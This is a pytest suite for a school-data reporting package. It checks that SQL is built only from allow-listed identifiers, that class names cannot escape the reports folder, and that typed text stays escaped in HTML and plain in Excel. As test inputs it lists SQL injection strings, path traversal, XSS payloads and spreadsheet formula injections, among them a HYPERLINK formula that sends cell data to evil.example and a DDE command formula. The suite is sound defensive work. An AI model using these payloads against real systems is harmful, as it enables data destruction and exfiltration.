"""Injection: values never reach SQL as text, names never leave reports/, people's text stays text.

1. SQL. An AST scan of every `.py` under lpdata/ and every notebook's code: each SQL call
   (`con.execute/sql/query/executemany`, and the helpers `first_row`, `scalar`, `page.read`,
   `page.at_dates` that pass SQL on) takes a literal, or an f-string / concatenation whose every
   interpolated piece is on the allow-list below: identifiers from the contract or the code (a kind's
   table, a view name `check_view_name` accepted, a file name of queries/), never a parameter. `%`
   and `.format` in SQL are refused outright. Behaviour backs the scan: class names and parameters
   such as `0301'; DROP TABLE snap_students; --` go through the parameter models, the plan, the
   notebooks' own queries and `lp query`, match nothing, and leave every table as it was.
2. Paths. Any class name (hypothesis: arbitrary text, `../`, quotes, `<script>`) becomes a slug of
   [A-Za-z0-9_-] and every file of its report lies inside reports/<as_of>/<notebook>/.
3. Output. Text people typed (a CLO summary `<script>alert(1)</script>`, `=HYPERLINK(...)`, `+886…`,
   `@SUM(1)`, `-2+3`) comes out of the page functions escaped (parsed back: the same text, no
   element but the page's own) and out of the Excel writers as a string cell, never a formula.
"""

from __future__ import annotations

import ast
import datetime as dt
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lpdata.errors import LpdataError, ParameterError, UnknownViewError
from lpdata.report import excel, page
from lpdata.report.execute import job_paths
from lpdata.report.i18n import strings
from lpdata.report.params import validate
from lpdata.report.plan import Job, expand, job_slug, load_plan, slug_part

from ..conftest import table_contents

ROOT = Path(__file__).resolve().parents[2]
EVIL = ("0301'; DROP TABLE snap_students; --", "0301\" OR 1=1 --", "x'); DELETE FROM quarantine; --",
        "../../etc/passwd", "..\\..\\boot.ini", "<script>alert(1)</script>", "'", '"', "%s", "{0}", "$1", "?",
        "0301\x00", "班級 301", "")
FAST = settings(max_examples=40, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


# --- 1. SQL: the static scan ----------------------------------------------------------------------

#: Calls whose argument is SQL: method name -> position of the SQL argument.
SQL_METHODS = {"execute": 0, "sql": 0, "query": 0, "executemany": 0}
SQL_HELPERS = {"first_row": 1, "scalar": 1, "scalar_as": 1, "scalar_int": 1, "scalar_str": 1, "one_row": 1,
               "read": 1, "at_dates": 1}

#: What may be interpolated into SQL text, per module: the expression as written -> why it is safe.
#: Everything here is an identifier or text the code itself holds, never a value a user typed.
ALLOWED: dict[str, dict[str, str]] = {
    "lpdata/store.py": {
        "table_name(kind)": "snap_<kind>, kind from the contract (ALL_KINDS)",
        "cols": "quoted column names and SQL types from the contract (stored_columns)",
        "table": "_next_id's table: only ever a literal in store.py",
        "column": "_next_id's column: only ever a literal in store.py",
        "ROW": "the reader's row-number column name, a constant of lpdata.readers.tables",
        "SHEET": "the reader's sheet column name, a constant of lpdata.readers.rows",
        "PART": "the reader's partition column name, a constant of lpdata.readers.rows",
        "source": "_rows_source(): a registered frame's name or read_parquet() of lp's own temporary files",
        "c": "a key column name of the contract (kind.key)",
    },
    "lpdata/ingest.py": {
        "_memory_limit()": "LP_DUCKDB_MEMORY checked against \\d+(\\.\\d+)?[KMGT]i?B before use",
    },
    "lpdata/views.py": {
        "kind.name": "a kind name from the contract",
        "cols": "column names from the contract",
        "table": "table_name(kind)",
        "kind_name": "a kind name from the contract, inside a literal",
        "query.name": "a file name of queries/*.sql (checked to be an identifier below)",
        "query.sql": "the text of a queries/*.sql file: code shipped with lp, not input",
        "CURRENT_SNAPSHOTS": "lpdata.store's constant: the current-snapshot rule, literal SQL",
        "macros.sql": "the text of queries/_macros.sql: code shipped with lp, not input",
        "sql_type": "an SQL type from store._SQL_TYPES",
        "name": "a column name from the contract; in _reset_materialised a block's name from the registry "
                "(a file name of queries/)",
        "MATERIALISED": "the registry table's name, a constant of lpdata.dates (lp_materialised)",
        "MATERIALISED_PREFIX": "the materialised tables' name prefix, a constant (lp_mat_)",
        "stored": "_guarded(table, query.name): a block's table and its file name of queries/",
    },
    "lpdata/dates.py": {
        "MATERIALISED": "the registry table's name, a constant of lpdata.dates (lp_materialised)",
        "name": "a block's name from the registry: a file name of queries/ that lpdata.views wrote there",
        "sql": "a block's SQL from the registry: its queries/*.sql text or views._guarded(...), written by lpdata.views",
        "statement": "from the registry: CREATE TEMP VIEW IF NOT EXISTS of a file name of queries/ and its text, "
                     "written by lpdata.views (_point_at_prepared)",
    },
    "lpdata/prepared.py": {
        "PREPARED_SCHEMA": "lpdata.views' constant: the prepared tables' schema (lp_prepared)",
        "PREPARED_REGISTRY": "lpdata.views' constant: the prepared tables' registry (lp_prepared.blocks)",
        "prepared_table(query.name)": "views.prepared_table: the schema constant and a file name of queries/, quoted",
        "query.name": "a file name of queries/*.sql (checked to be an identifier)",
    },
    "lpdata/cli.py": {"name": "check_view_name(view): one of view_names(), else UnknownViewError"},
    "lpdata/purge.py": {
        "HASH": "the literal column name national_id_hash",
        "DUE": "the literal retention state 'due'",
        "table": "student_tables(): tables of our own database with a national_id_hash column",
        "name": "current_database() with \" doubled, quoted as an identifier",
        "str(tmp).replace(\"'\", \"''\")": "the purge's temporary file, ' doubled, inside an SQL string literal",
    },
    "lpdata/backup.py": {
        "table": "_tables(): the tables of our own database (duckdb_tables()), quoted as identifiers",
        "_sql_str(path)": "a path quoted as an SQL string literal (' doubled)",
        "_sql_str(staging / (table + '.parquet'))": "a path quoted as an SQL string literal (' doubled)",
        "_sql_str(backup_dir / info['file'])": "a path quoted as an SQL string literal (' doubled)",
    },
}


def _sql_argument(call: ast.Call) -> ast.expr | None:
    func = call.func
    name = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else None
    position = SQL_METHODS.get(name) if isinstance(func, ast.Attribute) else None  # type: ignore[arg-type]
    if position is None:
        position = SQL_HELPERS.get(name)  # type: ignore[arg-type]
    if position is None:
        return None
    for kw in call.keywords:
        if kw.arg in ("query", "sql"):
            return kw.value
    return call.args[position] if len(call.args) > position else None


class SqlScan:
    """Finds every SQL argument of a module whose text is built from anything not allow-listed."""

    def __init__(self, source: str, module: str) -> None:
        self.tree = ast.parse(source)
        self.module = module
        self.allowed = ALLOWED.get(module, {})
        self.functions = {n.name: n for n in ast.walk(self.tree) if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef))}
        self.constants = {t.id: n.value for n in self.tree.body if isinstance(n, (ast.Assign, ast.AnnAssign))
                          for t in (n.targets if isinstance(n, ast.Assign) else [n.target]) if isinstance(t, ast.Name)}
        self.problems: list[str] = []
        self.interpolations: set[str] = set()

    def run(self) -> SqlScan:
        for node in ast.walk(self.tree):
            if isinstance(node, ast.Call):
                arg = _sql_argument(node)
                if arg is not None:
                    scope = self._scope_of(node)
                    self.check(arg, scope, node.lineno, set())
        return self

    def _scope_of(self, target: ast.AST) -> ast.AST | None:
        for fn in self.functions.values():
            if any(n is target for n in ast.walk(fn)):
                inner = [f for f in ast.walk(fn) if isinstance(f, ast.FunctionDef) and f is not fn
                         and any(n is target for n in ast.walk(f))]
                return inner[-1] if inner else fn
        return None

    def check(self, expr: ast.expr, scope: ast.AST | None, line: int, seen: set[str]) -> None:
        where = f"{self.module}:{line}"
        text = ast.unparse(expr)
        if text in self.allowed and not isinstance(expr, ast.Constant):
            self.interpolations.add(text)
            return
        if isinstance(expr, ast.Constant):
            if not isinstance(expr.value, str):
                self.problems.append(f"{where}: SQL that is not text: {ast.unparse(expr)}")
            return
        if isinstance(expr, ast.JoinedStr):
            for part in expr.values:
                if isinstance(part, ast.FormattedValue):
                    self.piece(part.value, scope, line, seen)
            return
        if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add):
            self.check(expr.left, scope, line, seen)
            self.check(expr.right, scope, line, seen)
            return
        if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Mod):
            self.problems.append(f"{where}: % formatting builds SQL: {ast.unparse(expr)[:120]}")
            return
        if isinstance(expr, ast.IfExp):
            self.check(expr.body, scope, line, seen)
            self.check(expr.orelse, scope, line, seen)
            return
        if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute) and expr.func.attr == "format":
            self.problems.append(f"{where}: .format builds SQL: {ast.unparse(expr)[:120]}")
            return
        if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute) and expr.func.attr == "join" \
                and isinstance(expr.func.value, ast.Constant) and expr.args \
                and isinstance(expr.args[0], (ast.GeneratorExp, ast.ListComp)):
            self.check(expr.args[0].elt, scope, line, seen)
            return
        if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Name) and expr.func.id in self.functions:
            fn = self.functions[expr.func.id]
            if fn.name in seen:
                return
            for ret in ast.walk(fn):
                if isinstance(ret, ast.Return) and ret.value is not None:
                    self.check(ret.value, fn, ret.lineno, seen | {fn.name})
            return
        if isinstance(expr, ast.Name):
            self.name(expr.id, scope, line, seen)
            return
        self.problems.append(f"{where}: SQL built from {ast.unparse(expr)[:120]}")

    def name(self, name: str, scope: ast.AST | None, line: int, seen: set[str]) -> None:
        where = f"{self.module}:{line}"
        if scope is not None:
            if isinstance(scope, ast.FunctionDef) and name in {a.arg for a in scope.args.args + scope.args.kwonlyargs}:
                if scope.name in SQL_HELPERS:
                    return  # passed on: the callers of this helper are checked
                self.problems.append(f"{where}: SQL taken from the parameter {name!r} of {scope.name}()")
                return
            values = [n.value for n in ast.walk(scope) if isinstance(n, (ast.Assign, ast.AnnAssign))
                      for t in (n.targets if isinstance(n, ast.Assign) else [n.target])
                      if isinstance(t, ast.Name) and t.id == name and n.value is not None]
            values += [n.value for n in ast.walk(scope) if isinstance(n, ast.AugAssign)
                       and isinstance(n.target, ast.Name) and n.target.id == name]
            if values:
                for v in values:
                    self.check(v, scope, line, seen)
                return
        if name in self.constants:
            self.check(self.constants[name], None, line, seen)
            return
        self.problems.append(f"{where}: SQL from {name!r}, which the scan cannot trace")

    def piece(self, expr: ast.expr, scope: ast.AST | None, line: int, seen: set[str]) -> None:
        """One interpolated value: allow-listed, a module constant, or traced to where it is built."""
        text = ast.unparse(expr)
        self.interpolations.add(text)
        if text in self.allowed:
            return
        if isinstance(expr, ast.Name) and expr.id in self.constants \
                and isinstance(self.constants[expr.id], ast.Constant):
            return
        if isinstance(expr, (ast.Name, ast.Call)):  # a variable or a helper of this module: traced
            self.check(expr, scope, line, seen)
            return
        self.problems.append(f"{self.module}:{line}: {{{text}}} is interpolated into SQL and is not on the "
                             "allow-list (bind it as a ? parameter, or add it to ALLOWED with the reason it is safe)")


def python_sources() -> list[tuple[str, str]]:
    out = [(p.relative_to(ROOT).as_posix(), p.read_text(encoding="utf-8")) for p in sorted((ROOT / "lpdata").rglob("*.py"))]
    for nb in sorted((ROOT / "notebooks").glob("*.ipynb")):
        cells = json.loads(nb.read_text(encoding="utf-8"))["cells"]
        code = "\n\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code")
        code = "\n".join(line for line in code.splitlines() if not line.lstrip().startswith(("%", "!")))
        out.append((nb.relative_to(ROOT).as_posix(), code))
    return out


def test_sql_text_is_built_from_allow_listed_identifiers_only() -> None:
    problems: list[str] = []
    used: dict[str, set[str]] = {}
    for module, source in python_sources():
        scan = SqlScan(source, module).run()
        problems += scan.problems
        used[module] = scan.interpolations
    assert not problems, "\n".join(problems)
    # The allow-list stays honest: an entry no code uses any more is removed.
    stale = [f"{m}: {e}" for m, entries in ALLOWED.items() for e in entries
             if (ROOT / m).exists() and e not in used.get(m, set())]
    assert not stale, "allow-list entries no longer used:\n" + "\n".join(stale)


def test_the_scan_catches_what_it_must() -> None:
    bad = '''
def one(con, class_name):
    con.execute(f"SELECT * FROM students WHERE class_name = '{class_name}'")
def two(con, as_of):
    sql = "SELECT * FROM lp_as_of WHERE as_of = '%s'" % as_of
    return con.sql(sql)
def three(con, view):
    return scalar(con, "SELECT count(*) FROM {}".format(view))
def four(con, name):
    con.execute("SELECT * FROM " + name)
'''
    problems = SqlScan(bad, "lpdata/example.py").run().problems
    assert len(problems) == 4, problems
    good = '''
LIMIT = "10"
def one(con, class_name):
    con.execute("SELECT * FROM students WHERE class_name = ?", [class_name])
def two(con):
    return con.sql(f"SELECT * FROM students LIMIT {LIMIT}")
'''
    assert SqlScan(good, "lpdata/example.py").run().problems == []


def test_query_file_names_are_identifiers() -> None:
    # They become view names inside "...": a file named `x"; DROP …` must not exist.
    for path in (ROOT / "queries").glob("*.sql"):
        assert re.fullmatch(r"[a-z_][a-z0-9_]*", path.stem), path.name


# --- 1. SQL: the behaviour ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def school_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.queries.school import KEY_HEX, School

    root = tmp_path_factory.mktemp("injection-school")
    key = root / "keys" / "id-hash.key"
    key.parent.mkdir(mode=0o700)
    key.write_text(KEY_HEX + "\n")
    key.chmod(0o600)
    school = School(root / "school", key)
    school.add("students", [dict(academic_year=113, semester=2, national_id=school.student(n), student_no=f"113{n:04d}",
                                 name=f"學生{n}", grade=3, class_name=c, seat_no=n, status="在學")
                            for n, c in ((1, "0301"), (2, "0301"), (3, "0302"))])
    return school.ingest("2025-03-01 18:00")


def test_evil_class_names_match_nothing_and_change_nothing(school_db: Path) -> None:
    before = table_contents(school_db)
    con = page.connect(school_db, "2025-03-01")
    try:
        term = page.resolve_term(con, 113, 2)
        for name in EVIL:
            # The class dashboard's own queries, with the class name bound as a parameter.
            assert page.read(con, "SELECT * FROM student_uploads WHERE academic_year = ? AND semester = ? "
                                  "AND class_name = ?", [*term.params, name]).is_empty()
            assert page.read(con, "SELECT * FROM class_completion WHERE class_name = ?", [name]).is_empty()
        assert page.read(con, "SELECT count(*) AS n FROM snap_students")["n"][0] == 3
    finally:
        con.close()
    assert table_contents(school_db) == before


def test_evil_parameters_are_refused_or_kept_as_text(school_db: Path, tmp_path: Path) -> None:
    for name in EVIL:
        if not name:
            with pytest.raises(ParameterError):
                validate("class_dashboard", {"db": "x", "academic_year": 113, "semester": 2, "output_dir": "x",
                                             "class_name": name})
            continue
        params = validate("class_dashboard", {"db": "x", "academic_year": 113, "semester": 2, "output_dir": "x",
                                              "class_name": name})
        assert params.class_name == name  # kept exactly: it is only ever bound, never spliced
    for bad in ({"academic_year": "113; DROP TABLE snap_students"}, {"semester": "2 OR 1=1"},
                {"as_of": "2025-03-01'; DROP TABLE snap_students; --"}, {"lang": "en'; --"}):
        with pytest.raises(ParameterError):
            validate("class_dashboard", {"db": "x", "academic_year": 113, "semester": 2, "output_dir": "x",
                                         "class_name": "0301", **bad})
    for as_of in ("2025-03-01'; DROP TABLE snap_students; --", "2025-03-01' OR '1'='1"):
        with pytest.raises(LpdataError, match="not a date"):
            page.connect(school_db, as_of)
    for view in ("students; DROP TABLE snap_students", 'class_completion" --', "snap_students"):
        from lpdata.views import check_view_name
        with pytest.raises(UnknownViewError):
            check_view_name(view)


def test_evil_class_names_through_a_plan(school_db: Path, tmp_path: Path) -> None:
    import yaml

    names = [n for n in EVIL if n]
    plan = tmp_path / "plan.yaml"
    plan.write_text(yaml.safe_dump({"term": {"academic_year": 113, "semester": 2},
                                    "reports": [{"notebook": "class_dashboard", "for_each": {"class_name": names}}]},
                                   allow_unicode=True), encoding="utf-8")
    before = table_contents(school_db)
    run_dir = tmp_path / "reports" / "2025-03-01"
    jobs = expand(load_plan(plan), db=school_db, as_of=dt.date(2025, 3, 1), run_dir=run_dir).jobs
    assert [j.params.class_name for j in jobs] == names
    for job in jobs:
        paths = job_paths(job, run_dir, tmp_path / "reports")
        for p in (paths.ipynb, paths.html, paths.output_dir):
            assert p.is_relative_to((run_dir / "class_dashboard").resolve()), p
    assert len({j.slug for j in jobs}) == len(jobs)  # different names, different files
    assert table_contents(school_db) == before


# --- 2. Paths: any class name stays inside reports/ ----------------------------------------------------

SLUG = re.compile(r"[A-Za-z0-9_-]+")


@FAST
@given(name=st.one_of(st.text(min_size=1, max_size=64), st.sampled_from([n for n in EVIL if n]),
                      st.builds(lambda a, b: a + "/../" + b, st.text(max_size=20), st.text(max_size=20))))
def test_any_class_name_writes_inside_reports(name: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    out_root = tmp_path_factory.getbasetemp() / "slug-reports"
    run_dir = out_root / "2025-03-01"
    try:
        params = validate("class_dashboard", {"db": "x", "academic_year": 113, "semester": 2, "output_dir": "-",
                                              "class_name": name})
    except ParameterError:
        assert len(name) > 64 or not name
        return
    slug = job_slug("class_dashboard", params)
    assert SLUG.fullmatch(slug) and len(slug) <= 80, slug
    assert slug_part(name) == slug.split("_", 1)[1]
    folder = (run_dir / "class_dashboard").resolve()
    params = params.model_copy(update={"output_dir": str((run_dir / "class_dashboard" / slug).resolve())})
    job = Job("class_dashboard", params, slug, ROOT / "notebooks" / "class_dashboard.ipynb",
              where=None)  # type: ignore[arg-type]
    paths = job_paths(job, run_dir, out_root)
    for p in (paths.ipynb, paths.html, paths.output_dir):
        assert p.parent == folder and p.is_relative_to(out_root.resolve()), p
    assert slug_part(name + "x") != slug_part(name)


# --- 3. Output: HTML escaped, Excel text -----------------------------------------------------------

PAYLOADS = ("<script>alert(1)</script>", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+886912345678",
            "@SUM(1)", "-2+3", "=1+1", "'><img src=x onerror=alert(1)>", "&amp;", "\"quoted\"", "0301",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r\n=1+1")
PAGE_TAGS = {"style", "div", "table", "caption", "thead", "tbody", "tr", "th", "td", "p", "h1", "h2", "h3", "ol", "li"}


class Parsed(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html_text: str) -> Parsed:
    p = Parsed()
    p.feed(html_text)
    p.close()
    return p


def page_html(text: str) -> tuple[str, str]:
    """(the table of a frame holding `text`, the headline showing it) as the page functions build them."""
    t = strings("en")
    frame = pl.DataFrame({"item_id": ["C1"], "summary": [text], "title": [text]})
    table = page.table(frame, t, definitions={"summary": text}, labels={"title": text}, caption=text)
    headline = page.headline([page.Number(text, text, note=text, definition=text)], t)
    return str(table), str(headline)


def check_escaped(text: str) -> None:
    for html_text in page_html(text):
        parsed = parse(html_text)
        assert set(parsed.tags) <= PAGE_TAGS, parsed.tags
        assert {k for k, _ in parsed.attrs} <= {"class", "title"}, parsed.attrs
        assert text in "".join(parsed.text) or text in [v for _, v in parsed.attrs], (text, html_text)


def test_people_text_is_escaped_in_pages() -> None:
    for text in PAYLOADS:
        check_escaped(text)
    table, _ = page_html("<script>alert(1)</script>")
    assert "<script>" not in table and "&lt;script&gt;alert(1)&lt;/script&gt;" in table


@FAST
@given(text=st.text(min_size=1, max_size=60).filter(lambda s: s.strip() and "\r" not in s))
def test_any_text_is_escaped_in_pages(text: str) -> None:
    check_escaped(text)


def sheet_cells(path: Path) -> tuple[list[tuple[str, str | None, bool]], list[str], list[str]]:
    """The first sheet's cells (ref, type, has a formula), the shared strings, and every part name."""
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
        shared = z.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in names else ""
    cells = [(m.group(1), m.group(2), "<f" in m.group(3))
             for m in re.finditer(r'<c r="([A-Z]+[0-9]+)"(?: s="\d+")?(?: t="(\w+)")?(?:/>|>(.*?)</c>)', sheet, re.S)]
    strings_ = [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<si>(.*?)</si>", shared, re.S)]
    return cells, strings_, names


def check_excel_text(texts: list[str], tmp: Path) -> None:
    from python_calamine import CalamineWorkbook

    frame = pl.DataFrame({"item_id": [f"C{i}" for i in range(len(texts))], "summary": texts,
                          "name": texts, "address": texts})
    path = excel.write_sheets(tmp / "list.xlsx", {"清單": frame}, strings("zh-TW"))
    cells, _, names = sheet_cells(path)
    assert not any(formula for _, _, formula in cells), "a formula in an action list"
    assert all(kind in ("s", "inlineStr") for ref, kind, _ in cells if ref[0] in "BCD" and ref != "B1"), cells
    assert not [n for n in names if "externalLink" in n or (n.endswith(".rels") and "worksheets/_rels" in n)], names
    grid = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    for i, text in enumerate(texts, start=1):
        assert grid[i][1] == grid[i][2] == grid[i][3] == text, (grid[i], text)


def test_people_text_stays_text_in_excel(tmp_path: Path) -> None:
    check_excel_text(list(PAYLOADS), tmp_path)
    # The three action lists of the notebooks, with a summary and an address that look like formulas.
    t = strings("zh-TW")
    backlog = pl.DataFrame({"assignee_code": ["T1"], "assignee_name": ["=1+1"], "teacher_code": ["T1"],
                            "student_no": ["+886"], "course_name": ["@SUM(1)"], "item_id": ["-2+3"],
                            "waiting_days": [3]})
    mail = pl.DataFrame({"receipt_batch": ["B1"], "class_name": ["0301"], "student_no": ["0001"],
                         "name": ["=HYPERLINK(\"http://x\")"], "address": ["+886-2-1234"]})
    disc = pl.DataFrame({"kind": ["clo"], "state": ["missing"], "summary": ["<script>x</script>"],
                         "receipt_summary": ["=2*3"]})
    for writer, frame in ((excel.teacher_pending, backlog), (excel.mail_list, mail), (excel.discrepancies, disc)):
        path = writer(frame, tmp_path / f"{writer.__name__}.xlsx", t)
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode(), (writer, name)


@FAST
@given(texts=st.lists(st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1,
                              max_size=40).filter(lambda s: s.strip() == s and s), min_size=1, max_size=5))
def test_any_text_stays_text_in_excel(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    check_excel_text(texts, tmp_path_factory.mktemp("xl"))
